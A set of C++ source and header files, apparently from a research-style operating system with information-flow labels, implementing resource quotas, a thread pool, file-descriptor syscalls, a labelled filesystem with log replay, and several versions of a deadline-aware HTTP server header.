ResourceVector ResourceContainer::usage() const {
  const util::MutexLock lock(tree_mutex());
  return usage_;
}

bool ResourceContainer::would_exceed(Resource r, std::int64_t amount) const {
  const std::int64_t limit = limits_[r];
  return limit != kUnlimited && usage_[r] + amount > limit;
}

util::Status ResourceContainer::charge(Resource r, std::int64_t amount) {
  const util::MutexLock lock(tree_mutex());
  // Validate the whole ancestor chain before mutating any usage counter.
  for (const ResourceContainer* c = this; c != nullptr; c = c->parent_) {
    if (c->would_exceed(r, amount)) {
      return util::make_error(
          "quota.exceeded", to_string(r) + " quota exhausted in container '" +
                                c->name_ + "' (limit " +
                                std::to_string(c->limits_[r]) + ")");
    }
  }
  for (ResourceContainer* c = this; c != nullptr; c = c->parent_)
    c->usage_[r] += amount;
  return util::ok_status();
}

void ResourceContainer::release(Resource r, std::int64_t amount) {
  const util::MutexLock lock(tree_mutex());
  for (ResourceContainer* c = this; c != nullptr; c = c->parent_) {
    c->usage_[r] -= amount;
    if (c->usage_[r] < 0) c->usage_[r] = 0;
  }
}

bool ResourceContainer::exhausted(Resource r) const {
  const util::MutexLock lock(tree_mutex());
  for (const ResourceContainer* c = this; c != nullptr; c = c->parent_) {
    if (c->limits_[r] != kUnlimited && c->usage_[r] >= c->limits_[r])
      return true;
  }
  return false;
}

std::int64_t ResourceContainer::remaining(Resource r) const {
  const util::MutexLock lock(tree_mutex());
  std::int64_t best = kUnlimited;
  for (const ResourceContainer* c = this; c != nullptr; c = c->parent_) {
    if (c->limits_[r] == kUnlimited) continue;
    const std::int64_t headroom = c->limits_[r] - c->usage_[r];
    if (best == kUnlimited || headroom < best)
      best = headroom < 0 ? 0 : headroom;
  }
  return best;
}

void ResourceContainer::reset_usage() {
  const util::MutexLock lock(tree_mutex());
  usage_ = ResourceVector{};
}

}  // namespace w5::os
