#include "os/thread_pool.h"

namespace w5::os {

ThreadPool::ThreadPool(std::size_t threads, std::size_t queue_limit)
    : queue_limit_(queue_limit) {
  if (threads == 0) {
    const unsigned hw = std::thread::hardware_concurrency();
    threads = hw > 2 ? hw : 2;
  }
  workers_.reserve(threads);
  for (std::size_t i = 0; i < threads; ++i)
    workers_.emplace_back([this] { worker_loop(); });
}

ThreadPool::~ThreadPool() { shutdown(); }

void ThreadPool::submit(Job job) {
  {
    const util::MutexLock lock(mutex_);
    if (stopping_) return;
    queue_.push_back(std::move(job));
    ++submitted_;
    if (queue_.size() > max_queue_depth_) max_queue_depth_ = queue_.size();
  }
  work_ready_.notify_one();
}

bool ThreadPool::try_submit(Job job) {
  {
    const util::MutexLock lock(mutex_);
    if (stopping_ || (queue_limit_ > 0 && queue_.size() >= queue_limit_)) {
      ++rejected_;
      return false;
    }
    queue_.push_back(std::move(job));
    ++submitted_;
    if (queue_.size() > max_queue_depth_) max_queue_depth_ = queue_.size();
  }
  work_ready_.notify_one();
  return true;
}

void ThreadPool::worker_loop() {
  while (true) {
    Job job;
    {
      util::UniqueLock lock(mutex_);
      work_ready_.wait(lock.native(), [this]() W5_REQUIRES(mutex_) {
        return stopping_ || !queue_.empty();
      });
      if (queue_.empty()) return;  // stopping_ and drained
      job = std::move(queue_.front());
      queue_.pop_front();
      ++active_;
    }
    job();
    {
      const util::MutexLock lock(mutex_);
      --active_;
      ++completed_;
      if (active_ == 0 && queue_.empty()) all_idle_.notify_all();
    }
  }
}

void ThreadPool::drain() {
  util::UniqueLock lock(mutex_);
  all_idle_.wait(lock.native(), [this]() W5_REQUIRES(mutex_) {
    return queue_.empty() && active_ == 0;
  });
}

void ThreadPool::shutdown() {
  {
    const util::MutexLock lock(mutex_);
    stopping_ = true;
  }
  work_ready_.notify_all();
  // join_mutex_ serializes concurrent shutdown() calls — joining the same
  // std::thread from two threads is undefined behavior.
  const util::MutexLock join_lock(join_mutex_);
  for (auto& worker : workers_)
    if (worker.joinable()) worker.join();
}

std::size_t ThreadPool::pending() const {
  const util::MutexLock lock(mutex_);
  return queue_.size();
}

std::size_t ThreadPool::active() const {
  const util::MutexLock lock(mutex_);
  return active_;
}

std::uint64_t ThreadPool::jobs_submitted() const {
  const util::MutexLock lock(mutex_);
  return submitted_;
}

std::uint64_t ThreadPool::jobs_completed() const {
  const util::MutexLock lock(mutex_);
  return completed_;
}

std::uint64_t ThreadPool::jobs_rejected() const {
  const util::MutexLock lock(mutex_);
  return rejected_;
}

std::size_t ThreadPool::max_queue_depth() const {
  const util::MutexLock lock(mutex_);
  return max_queue_depth_;
}

}  // namespace w5::os
