#include "os/syscalls.h"

namespace w5::os {

util::Result<Syscalls::Entry*> Syscalls::lookup(Pid pid, Fd fd) {
  const auto table = tables_.find(pid);
  if (table == tables_.end())
    return util::make_error("sys.badf", "no open fds for process");
  const auto it = table->second.find(fd);
  if (it == table->second.end())
    return util::make_error("sys.badf", "fd " + std::to_string(fd) +
                                            " not open");
  return &it->second;
}

Fd Syscalls::allocate(Pid pid, Entry entry) {
  Fd& next = next_fd_[pid];
  if (next < 3) next = 3;  // leave room for the traditional trio
  const Fd fd = next++;
  tables_[pid].emplace(fd, std::move(entry));
  return fd;
}

util::Result<Fd> Syscalls::open(Pid pid, const std::string& path,
                                OpenMode mode,
                                const difc::ObjectLabels& create_labels) {
  if (mode == OpenMode::kCreate) {
    if (auto created = fs_.create(pid, path, create_labels); !created.ok())
      return created.error();
  } else {
    // Probe existence + basic permission now so open() fails eagerly,
    // like POSIX. Reads use auto-raise at read() time instead, so a
    // clean process may open-for-read before deciding to contaminate.
    auto st = fs_.stat(pid, path);
    if (!st.ok()) return st.error();
    if (st.value().is_directory)
      return util::make_error("sys.isdir", path + " is a directory");
  }
  FileEntry entry{path, mode, 0};
  if (mode == OpenMode::kAppend) {
    auto st = fs_.stat(pid, path);
    if (st.ok()) entry.offset = st.value().size;
  }
  return allocate(pid, Entry{std::move(entry)});
}

util::Result<std::string> Syscalls::read(Pid pid, Fd fd, std::size_t max) {
  auto entry = lookup(pid, fd);
  if (!entry.ok()) return entry.error();
  if (auto* pipe_entry = std::get_if<PipeEntry>(entry.value())) {
    auto message = ipc_.receive(pid, pipe_entry->channel);
    if (!message.ok()) {
      if (message.error().code == "ipc.empty") return std::string{};
      return message.error();
    }
    return std::move(message.value().payload);
  }
  auto& file = std::get<FileEntry>(*entry.value());
  auto content = fs_.read(pid, file.path, AutoRaise::kYes);
  if (!content.ok()) return content.error();
  if (file.offset >= content.value().size()) return std::string{};
  std::string out = content.value().substr(file.offset, max);
  file.offset += out.size();
  return out;
}

util::Status Syscalls::write(Pid pid, Fd fd, std::string_view data) {
  auto entry = lookup(pid, fd);
  if (!entry.ok()) return entry.error();
  if (auto* pipe_entry = std::get_if<PipeEntry>(entry.value()))
    return ipc_.send(pid, pipe_entry->channel, std::string(data));

  auto& file = std::get<FileEntry>(*entry.value());
  if (file.mode == OpenMode::kRead)
    return util::make_error("sys.perm", "fd opened read-only");
  auto content = fs_.read(pid, file.path, AutoRaise::kYes);
  if (!content.ok()) return content.error();
  std::string updated = std::move(content).value();
  const std::size_t at =
      file.mode == OpenMode::kAppend ? updated.size() : file.offset;
  if (at > updated.size()) updated.resize(at, '\0');  // sparse gap
  updated.replace(at, data.size(), data);
  if (auto written = fs_.write(pid, file.path, std::move(updated));
      !written.ok()) {
    return written;
  }
  file.offset = at + data.size();
  return util::ok_status();
}

util::Result<std::size_t> Syscalls::lseek(Pid pid, Fd fd,
                                          std::int64_t offset) {
  auto entry = lookup(pid, fd);
  if (!entry.ok()) return entry.error();
  auto* file = std::get_if<FileEntry>(entry.value());
  if (file == nullptr)
    return util::make_error("sys.espipe", "cannot seek a pipe");
  if (offset < 0) return util::make_error("sys.inval", "negative offset");
  file->offset = static_cast<std::size_t>(offset);
  return file->offset;
}

util::Result<FileStat> Syscalls::fstat(Pid pid, Fd fd) {
  auto entry = lookup(pid, fd);
  if (!entry.ok()) return entry.error();
  auto* file = std::get_if<FileEntry>(entry.value());
  if (file == nullptr)
    return util::make_error("sys.inval", "fstat on a pipe");
  return fs_.stat(pid, file->path);
}

util::Result<Fd> Syscalls::dup(Pid pid, Fd fd) {
  auto entry = lookup(pid, fd);
  if (!entry.ok()) return entry.error();
  return allocate(pid, *entry.value());  // copies entry (independent offset)
}

util::Status Syscalls::close(Pid pid, Fd fd) {
  const auto table = tables_.find(pid);
  if (table == tables_.end() || table->second.erase(fd) == 0)
    return util::make_error("sys.badf", "fd not open");
  return util::ok_status();
}

void Syscalls::close_all(Pid pid) {
  tables_.erase(pid);
  next_fd_.erase(pid);
}

util::Result<std::pair<Fd, Fd>> Syscalls::pipe(Pid a, Pid b) {
  auto channel = ipc_.connect_default(a, b);
  if (!channel.ok()) return channel.error();
  const Fd fd_a = allocate(a, Entry{PipeEntry{channel.value()}});
  const Fd fd_b = allocate(b, Entry{PipeEntry{channel.value()}});
  return std::pair<Fd, Fd>{fd_a, fd_b};
}

std::size_t Syscalls::open_fd_count(Pid pid) const {
  const auto table = tables_.find(pid);
  return table == tables_.end() ? 0 : table->second.size();
}

}  // namespace w5::os
