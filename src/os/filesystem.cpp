#include "os/filesystem.h"

#include <mutex>

#include "difc/codec.h"
#include "util/strings.h"

namespace w5::os {

FileSystem::FileSystem(Kernel& kernel)
    : kernel_(kernel), root_(std::make_unique<Node>()) {
  root_->is_directory = true;  // public, unendorsed root
}

util::Result<difc::LabelState> FileSystem::caller(Pid pid) const {
  return kernel_.effective_state(pid);
}

util::Result<FileSystem::Node*> FileSystem::resolve(const std::string& path) {
  Node* node = root_.get();
  for (const auto& part : util::split_nonempty(path, '/')) {
    if (!node->is_directory)
      return util::make_error("fs.not_found", path + ": not a directory");
    const auto it = node->children.find(part);
    if (it == node->children.end())
      return util::make_error("fs.not_found", path + ": no such entry");
    node = it->second.get();
  }
  return node;
}

util::Result<FileSystem::Node*> FileSystem::resolve_parent(
    const std::string& path, std::string* leaf) {
  auto parts = util::split_nonempty(path, '/');
  if (parts.empty())
    return util::make_error("fs.invalid", "cannot operate on root");
  *leaf = parts.back();
  parts.pop_back();
  Node* node = root_.get();
  for (const auto& part : parts) {
    if (!node->is_directory)
      return util::make_error("fs.not_found", path + ": not a directory");
    const auto it = node->children.find(part);
    if (it == node->children.end())
      return util::make_error("fs.not_found", path + ": missing parent");
    node = it->second.get();
  }
  if (!node->is_directory)
    return util::make_error("fs.not_found", path + ": parent not a directory");
  return node;
}

namespace {

// A caller holding dual privilege over a tag (t+ and t-) may access
// t-labeled objects transparently: it could always raise, act, and
// declassify, so refusing would add ritual without security. Likewise a
// caller holding t+ for an integrity tag could endorse itself before
// writing. This widens the state used for checks; the process's real
// labels are untouched.
difc::LabelState widen_for(const difc::LabelState& state,
                           const difc::ObjectLabels& object) {
  const difc::Label dual =
      state.owned().addable().intersect_with(state.owned().removable());
  const difc::Label secrecy =
      state.secrecy().union_with(object.secrecy.intersect_with(dual));
  const difc::Label integrity = state.integrity().union_with(
      object.integrity.intersect_with(state.owned().addable()));
  return difc::LabelState(secrecy, integrity, state.owned());
}

// Creating an object with given labels: the creator's current secrecy must
// flow into it and the requested integrity must be one the creator can
// vouch for (I_f ⊆ I_p).
util::Status check_create(const difc::LabelState& state,
                          const difc::ObjectLabels& labels) {
  if (!state.secrecy().subset_of(labels.secrecy)) {
    return util::make_error("flow.denied",
                            "create: process secrecy " +
                                state.secrecy().to_string() +
                                " would leak into object labeled " +
                                labels.secrecy.to_string());
  }
  // Integrity may be stamped up to what the creator holds or could
  // legally endorse (owns t+ for).
  const difc::Label endorsable =
      state.integrity().union_with(state.owned().addable());
  if (!labels.integrity.subset_of(endorsable)) {
    return util::make_error(
        "flow.denied", "create: cannot forge integrity " +
                           labels.integrity.to_string() +
                           " with endorsable set " + endorsable.to_string());
  }
  return util::ok_status();
}

}  // namespace

util::Status FileSystem::mkdir(Pid pid, const std::string& path,
                               const difc::ObjectLabels& labels) {
  util::WriteLock lock(mutex_);
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  std::string leaf;
  auto parent = resolve_parent(path, &leaf);
  if (!parent.ok()) return parent.error();
  if (parent.value()->children.contains(leaf))
    return util::make_error("fs.exists", path + ": already exists");
  if (auto status = difc::check_write(
          widen_for(state.value(), parent.value()->labels),
          parent.value()->labels);
      !status.ok()) {
    return status;
  }
  if (auto status = check_create(state.value(), labels); !status.ok())
    return status;
  auto node = std::make_unique<Node>();
  node->is_directory = true;
  node->labels = labels;
  const Node* placed = node.get();
  parent.value()->children.emplace(leaf, std::move(node));
  const std::uint64_t seq = log_put_locked(path, *placed);
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Status FileSystem::create(Pid pid, const std::string& path,
                                const difc::ObjectLabels& labels,
                                std::string content) {
  util::WriteLock lock(mutex_);
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  std::string leaf;
  auto parent = resolve_parent(path, &leaf);
  if (!parent.ok()) return parent.error();
  if (parent.value()->children.contains(leaf))
    return util::make_error("fs.exists", path + ": already exists");
  if (auto status = difc::check_write(
          widen_for(state.value(), parent.value()->labels),
          parent.value()->labels);
      !status.ok()) {
    return status;
  }
  if (auto status = check_create(state.value(), labels); !status.ok())
    return status;
  if (auto charged = kernel_.charge(pid, Resource::kDisk,
                                    static_cast<std::int64_t>(content.size()));
      !charged.ok()) {
    return charged;
  }
  auto node = std::make_unique<Node>();
  node->is_directory = false;
  node->labels = labels;
  node->content = std::move(content);
  const Node* placed = node.get();
  parent.value()->children.emplace(leaf, std::move(node));
  const std::uint64_t seq = log_put_locked(path, *placed);
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Result<std::string> FileSystem::read(Pid pid, const std::string& path,
                                           AutoRaise raise) {
  const util::ReadLock lock(mutex_);
  auto node = resolve(path);
  if (!node.ok()) return node.error();
  if (node.value()->is_directory)
    return util::make_error("fs.invalid", path + ": is a directory");
  auto state = caller(pid);
  if (!state.ok()) return state.error();

  if (raise == AutoRaise::kYes &&
      !node.value()->labels.secrecy.subset_of(state.value().secrecy())) {
    if (auto raised =
            kernel_.raise_secrecy(pid, node.value()->labels.secrecy);
        !raised.ok()) {
      return raised.error();
    }
    state = caller(pid);
    if (!state.ok()) return state.error();
  }
  if (auto status = difc::check_read(
          widen_for(state.value(), node.value()->labels),
          node.value()->labels);
      !status.ok()) {
    return status.error();
  }
  return node.value()->content;
}

util::Status FileSystem::write(Pid pid, const std::string& path,
                               std::string content) {
  util::WriteLock lock(mutex_);
  auto node = resolve(path);
  if (!node.ok()) return node.error();
  if (node.value()->is_directory)
    return util::make_error("fs.invalid", path + ": is a directory");
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  if (auto status = difc::check_write(
          widen_for(state.value(), node.value()->labels),
          node.value()->labels);
      !status.ok()) {
    return status;
  }
  const auto delta = static_cast<std::int64_t>(content.size()) -
                     static_cast<std::int64_t>(node.value()->content.size());
  if (delta > 0) {
    if (auto charged = kernel_.charge(pid, Resource::kDisk, delta);
        !charged.ok()) {
      return charged;
    }
  }
  node.value()->content = std::move(content);
  const std::uint64_t seq = log_put_locked(path, *node.value());
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Status FileSystem::append(Pid pid, const std::string& path,
                                const std::string& content) {
  util::WriteLock lock(mutex_);
  auto node = resolve(path);
  if (!node.ok()) return node.error();
  if (node.value()->is_directory)
    return util::make_error("fs.invalid", path + ": is a directory");
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  if (auto status = difc::check_write(
          widen_for(state.value(), node.value()->labels),
          node.value()->labels);
      !status.ok()) {
    return status;
  }
  if (auto charged = kernel_.charge(pid, Resource::kDisk,
                                    static_cast<std::int64_t>(content.size()));
      !charged.ok()) {
    return charged;
  }
  node.value()->content += content;
  const std::uint64_t seq = log_put_locked(path, *node.value());
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Status FileSystem::unlink(Pid pid, const std::string& path) {
  util::WriteLock lock(mutex_);
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  std::string leaf;
  auto parent = resolve_parent(path, &leaf);
  if (!parent.ok()) return parent.error();
  const auto it = parent.value()->children.find(leaf);
  if (it == parent.value()->children.end())
    return util::make_error("fs.not_found", path + ": no such entry");
  // Deleting is a write to both the entry and its parent directory.
  if (auto status = difc::check_write(
          widen_for(state.value(), parent.value()->labels),
          parent.value()->labels);
      !status.ok()) {
    return status;
  }
  if (auto status = difc::check_write(
          widen_for(state.value(), it->second->labels), it->second->labels);
      !status.ok()) {
    return status;
  }
  if (it->second->is_directory && !it->second->children.empty())
    return util::make_error("fs.not_empty", path + ": directory not empty");
  parent.value()->children.erase(it);
  const std::uint64_t seq = log_remove_locked(path);
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Result<std::vector<std::string>> FileSystem::list(
    Pid pid, const std::string& path) {
  const util::ReadLock lock(mutex_);
  auto node = resolve(path);
  if (!node.ok()) return node.error();
  if (!node.value()->is_directory)
    return util::make_error("fs.invalid", path + ": not a directory");
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  if (auto status = difc::check_read(state.value(), node.value()->labels);
      !status.ok()) {
    return status.error();
  }
  const difc::Label clearance = state.value().secrecy_clearance();
  std::vector<std::string> names;
  for (const auto& [name, child] : node.value()->children) {
    // Invisible rather than denied: existence must not leak (§3.5).
    if (child->labels.secrecy.subset_of(clearance)) names.push_back(name);
  }
  return names;
}

util::Result<FileStat> FileSystem::stat(Pid pid, const std::string& path) {
  const util::ReadLock lock(mutex_);
  auto node = resolve(path);
  if (!node.ok()) return node.error();
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  // Stat reveals existence + size: same visibility rule as list().
  if (!node.value()->labels.secrecy.subset_of(
          state.value().secrecy_clearance())) {
    return util::make_error("fs.not_found", path + ": no such entry");
  }
  return FileStat{node.value()->is_directory, node.value()->content.size(),
                  node.value()->labels};
}

util::Status FileSystem::relabel(Pid pid, const std::string& path,
                                 const difc::ObjectLabels& labels) {
  util::WriteLock lock(mutex_);
  auto node = resolve(path);
  if (!node.ok()) return node.error();
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  if (auto status = difc::check_write(
          widen_for(state.value(), node.value()->labels),
          node.value()->labels);
      !status.ok()) {
    return status;
  }
  // Relabeling is a declassification/endorsement: the caller must be able
  // to make both deltas as if they were label changes of its own.
  if (!state.value().change_is_safe(node.value()->labels.secrecy,
                                    labels.secrecy) ||
      !state.value().change_is_safe(node.value()->labels.integrity,
                                    labels.integrity)) {
    return util::make_error("flow.denied",
                            "relabel: insufficient authority over delta");
  }
  node.value()->labels = labels;
  const std::uint64_t seq = log_put_locked(path, *node.value());
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Json FileSystem::node_to_json(const Node& node) {
  util::Json out;
  out["dir"] = node.is_directory;
  out["labels"] = difc::object_labels_to_json(node.labels);
  if (node.is_directory) {
    util::Json children;
    children.mutable_object();  // force object type even when empty
    for (const auto& [name, child] : node.children)
      children[name] = node_to_json(*child);
    out["children"] = std::move(children);
  } else {
    out["content"] = node.content;
  }
  return out;
}

util::Result<std::unique_ptr<FileSystem::Node>> FileSystem::node_from_json(
    const util::Json& j) {
  auto node = std::make_unique<Node>();
  node->is_directory = j.at("dir").as_bool();
  auto labels = difc::object_labels_from_json(j.at("labels"));
  if (!labels.ok()) return labels.error();
  node->labels = std::move(labels).value();
  if (node->is_directory) {
    if (!j.at("children").is_object())
      return util::make_error("fs.parse", "directory missing children");
    for (const auto& [name, child_json] : j.at("children").as_object()) {
      if (name.empty() || name.find('/') != std::string::npos)
        return util::make_error("fs.parse", "illegal entry name");
      auto child = node_from_json(child_json);
      if (!child.ok()) return child.error();
      node->children.emplace(name, std::move(child).value());
    }
  } else {
    node->content = j.at("content").as_string();
  }
  return node;
}

std::uint64_t FileSystem::log_put_locked(const std::string& path,
                                         const Node& node) {
  if (mutation_log_ == nullptr) return 0;
  util::Json op;
  op["op"] = "fs.put";
  op["path"] = path;
  op["dir"] = node.is_directory;
  op["labels"] = difc::object_labels_to_json(node.labels);
  if (!node.is_directory) op["content"] = node.content;
  return mutation_log_->log(op);
}

std::uint64_t FileSystem::log_remove_locked(const std::string& path) {
  if (mutation_log_ == nullptr) return 0;
  util::Json op;
  op["op"] = "fs.remove";
  op["path"] = path;
  return mutation_log_->log(op);
}

util::Status FileSystem::apply_wal(const util::Json& op) {
  const std::string& kind = op.at("op").as_string();
  util::WriteLock lock(mutex_);
  if (kind == "fs.put") {
    const auto parts = util::split_nonempty(op.at("path").as_string(), '/');
    if (parts.empty())
      return util::make_error("wal.replay", "fs.put on root");
    auto labels = difc::object_labels_from_json(op.at("labels"));
    if (!labels.ok()) return labels.error();
    // Replay order normally creates parents before children; missing
    // parents (a snapshot/WAL overlap edge) are conjured as plain
    // directories and fixed up when their own fs.put replays.
    Node* node = root_.get();
    for (std::size_t i = 0; i + 1 < parts.size(); ++i) {
      auto& child = node->children[parts[i]];
      if (child == nullptr) {
        child = std::make_unique<Node>();
        child->is_directory = true;
      }
      if (!child->is_directory)
        return util::make_error("wal.replay",
                                "fs.put through non-directory parent");
      node = child.get();
    }
    auto& leaf = node->children[parts.back()];
    if (leaf == nullptr) leaf = std::make_unique<Node>();
    leaf->is_directory = op.at("dir").as_bool();
    leaf->labels = std::move(labels).value();
    // Directory replays carry no children: mkdir/relabel never touch
    // them, so whatever the tree already holds stays.
    if (!leaf->is_directory) leaf->content = op.at("content").as_string();
    return util::ok_status();
  }
  if (kind == "fs.remove") {
    std::string leaf;
    auto parent = resolve_parent(op.at("path").as_string(), &leaf);
    if (!parent.ok()) return util::ok_status();  // idempotent
    parent.value()->children.erase(leaf);
    return util::ok_status();
  }
  return util::make_error("wal.replay", "unknown fs op '" + kind + "'");
}

util::Json FileSystem::to_json() const {
  const util::ReadLock lock(mutex_);
  return node_to_json(*root_);
}

util::Status FileSystem::load_json(const util::Json& snapshot) {
  // Parse outside the lock; swap in atomically.
  auto root = node_from_json(snapshot);
  if (!root.ok()) return root.error();
  if (!root.value()->is_directory)
    return util::make_error("fs.parse", "root must be a directory");
  util::WriteLock lock(mutex_);
  root_ = std::move(root).value();
  return util::ok_status();
}

}  // namespace w5::os
