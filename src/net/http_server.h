// HTTP server loop over a Connection.
//
// The server is transport-agnostic: feed it any Connection (in-memory
// pipe, TCP socket) and it parses requests, invokes the handler, and
// writes responses, honoring HTTP/1.1 keep-alive and emitting 400s for
// parse failures. With ServerOptions deadlines configured it is also the
// slow-client perimeter: a client that trickles headers, stalls
// mid-body, or never drains its receive buffer is reaped within the
// configured deadline instead of pinning a pool worker forever.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>

#include "net/http.h"
#include "net/http_parser.h"
#include "net/tcp.h"
#include "net/transport.h"
#include "util/clock.h"

namespace w5::net {

using ServerHandler = std::function<HttpResponse(const HttpRequest&)>;

// Runs a job somewhere — inline, or on a worker pool. Keeps the net
// layer free of a dependency on os::ThreadPool; the provider passes its
// pool's submit() here.
using Executor = std::function<void(std::function<void()>)>;

// Admission-controlled executor: returns false when the job was refused
// (queue full, pool stopping) — the caller sheds the connection with a
// 503 instead of queueing unboundedly.
using BoundedExecutor = std::function<bool(std::function<void()>)>;

// Robustness knobs (DESIGN.md §12). All deadlines are wall-clock micros;
// 0 disables that deadline (the seed behavior: block forever).
struct ServerOptions {
  // From the start of a request (or keep-alive idle) until the header
  // block is complete. Doubles as the idle-connection cap: a keep-alive
  // client that sends nothing for this long is closed (without a 408).
  util::Micros header_deadline_micros = 0;
  // From headers-complete until the declared body has fully arrived.
  util::Micros body_deadline_micros = 0;
  // Per write() call: a receiver that never drains is reaped.
  util::Micros write_timeout_micros = 0;
  // Vestigial (kept for config compatibility): blocked reads now poll(2)
  // until the computed phase deadline in one sleep instead of waking
  // every quantum to re-check, so an idle keep-alive connection costs no
  // CPU between requests. The deadline math never depended on this knob.
  util::Micros io_poll_micros = 50'000;
  // Retry-After seconds advertised on shed (503) responses.
  int retry_after_seconds = 1;
};

// Shared robustness counters, exported at /metrics. Owned by the caller
// (the Provider) and written with relaxed atomics from every worker.
struct ServerStats {
  std::atomic<std::uint64_t> handled_total{0};     // requests served
  std::atomic<std::uint64_t> timeouts_total{0};    // read/write timeouts seen
  std::atomic<std::uint64_t> reaped_total{0};      // connections killed by deadline
  std::atomic<std::uint64_t> shed_total{0};        // 503s sent at admission
  std::atomic<std::uint64_t> rejected_413_total{0};
  std::atomic<std::uint64_t> rejected_431_total{0};
};

// Connection-plane telemetry (DESIGN.md §15), shared by both serving
// modes and exported as the w5_net_* connection family at /metrics.
// Gauges are live levels; counters are lifetime totals.
struct ConnStats {
  std::atomic<std::int64_t> open{0};   // accepted and not yet closed
  std::atomic<std::int64_t> idle{0};   // open, keep-alive, no request bytes
  std::atomic<std::uint64_t> accepted_total{0};
  std::atomic<std::uint64_t> timeout_closes_total{0};  // closed by deadline
  std::atomic<std::uint64_t> reset_total{0};  // peer reset / abrupt close
};

class HttpServer {
 public:
  explicit HttpServer(ServerHandler handler, ParserLimits limits = {},
                      ServerOptions options = {}, ServerStats* stats = nullptr,
                      ConnStats* conn_stats = nullptr)
      : handler_(std::move(handler)),
        limits_(limits),
        options_(options),
        stats_(stats),
        conn_stats_(conn_stats) {}

  // Serves requests until EOF, close, or a fatal transport/parse error.
  // Returns the number of requests successfully handled.
  std::size_t serve(Connection& connection);

  // Handles at most one request already buffered in the connection.
  // Returns true if a request was handled; false on EOF/no-data.
  util::Result<bool> handle_one(Connection& connection);

 private:
  util::Status respond(Connection& connection, const HttpResponse& response);
  // Reap helper: optional 408 (echoing a validated X-W5-Trace from the
  // partially parsed headers), close, count.
  util::Error reap(Connection& connection, bool got_bytes,
                   const Headers& parsed_headers);

  ServerHandler handler_;
  ParserLimits limits_;
  ServerOptions options_;
  ServerStats* stats_;
  ConnStats* conn_stats_ = nullptr;
};

// Accept loop + worker-pool dispatch: the concurrent front door. The
// calling thread blocks in accept(); each accepted connection is handed
// to the executor, where a (shared, stateless) HttpServer speaks
// HTTP/1.1 with that client until it disconnects. The handler therefore
// runs on many threads at once — everything it touches must be
// thread-safe (which is the point of this PR's locking work).
//
// With a BoundedExecutor the accept loop is also the admission
// controller: a refused dispatch answers 503 + Retry-After on the
// accepting thread and closes, so overload degrades into fast, explicit
// rejections instead of an unbounded queue.
class PooledHttpServer {
 public:
  PooledHttpServer(ServerHandler handler, Executor executor,
                   ParserLimits limits = {})
      : server_(std::move(handler), limits),
        executor_([run = std::move(executor)](std::function<void()> job) {
          run(std::move(job));
          return true;
        }) {}

  PooledHttpServer(ServerHandler handler, BoundedExecutor executor,
                   ParserLimits limits, ServerOptions options,
                   ServerStats* stats = nullptr,
                   ConnStats* conn_stats = nullptr)
      : server_(std::move(handler), limits, options, stats, conn_stats),
        executor_(std::move(executor)),
        options_(options),
        stats_(stats),
        conn_stats_(conn_stats) {}

  // Accepts until the listener is closed (listener.close() from another
  // thread unblocks accept with an error). Returns the number of
  // connections dispatched (shed connections are not counted).
  std::size_t serve(TcpListener& listener);

 private:
  HttpServer server_;
  BoundedExecutor executor_;
  ServerOptions options_;
  ServerStats* stats_ = nullptr;
  ConnStats* conn_stats_ = nullptr;
};

}  // namespace w5::net
