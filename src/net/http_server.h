// HTTP server loop over a Connection.
//
// The server is transport-agnostic: feed it any Connection (in-memory
// pipe, TCP socket) and it parses requests, invokes the handler, and
// writes responses, honoring HTTP/1.1 keep-alive and emitting 400s for
// parse failures.
#pragma once

#include <functional>

#include "net/http.h"
#include "net/http_parser.h"
#include "net/transport.h"

namespace w5::net {

using ServerHandler = std::function<HttpResponse(const HttpRequest&)>;

class HttpServer {
 public:
  explicit HttpServer(ServerHandler handler, ParserLimits limits = {})
      : handler_(std::move(handler)), limits_(limits) {}

  // Serves requests until EOF, close, or a fatal transport/parse error.
  // Returns the number of requests successfully handled.
  std::size_t serve(Connection& connection);

  // Handles at most one request already buffered in the connection.
  // Returns true if a request was handled; false on EOF/no-data.
  util::Result<bool> handle_one(Connection& connection);

 private:
  util::Status respond(Connection& connection, const HttpResponse& response);

  ServerHandler handler_;
  ParserLimits limits_;
};

}  // namespace w5::net
