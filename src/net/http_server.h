// HTTP server loop over a Connection.
//
// The server is transport-agnostic: feed it any Connection (in-memory
// pipe, TCP socket) and it parses requests, invokes the handler, and
// writes responses, honoring HTTP/1.1 keep-alive and emitting 400s for
// parse failures.
#pragma once

#include <functional>
#include <memory>

#include "net/http.h"
#include "net/http_parser.h"
#include "net/tcp.h"
#include "net/transport.h"

namespace w5::net {

using ServerHandler = std::function<HttpResponse(const HttpRequest&)>;

// Runs a job somewhere — inline, or on a worker pool. Keeps the net
// layer free of a dependency on os::ThreadPool; the provider passes its
// pool's submit() here.
using Executor = std::function<void(std::function<void()>)>;

class HttpServer {
 public:
  explicit HttpServer(ServerHandler handler, ParserLimits limits = {})
      : handler_(std::move(handler)), limits_(limits) {}

  // Serves requests until EOF, close, or a fatal transport/parse error.
  // Returns the number of requests successfully handled.
  std::size_t serve(Connection& connection);

  // Handles at most one request already buffered in the connection.
  // Returns true if a request was handled; false on EOF/no-data.
  util::Result<bool> handle_one(Connection& connection);

 private:
  util::Status respond(Connection& connection, const HttpResponse& response);

  ServerHandler handler_;
  ParserLimits limits_;
};

// Accept loop + worker-pool dispatch: the concurrent front door. The
// calling thread blocks in accept(); each accepted connection is handed
// to the executor, where a (shared, stateless) HttpServer speaks
// HTTP/1.1 with that client until it disconnects. The handler therefore
// runs on many threads at once — everything it touches must be
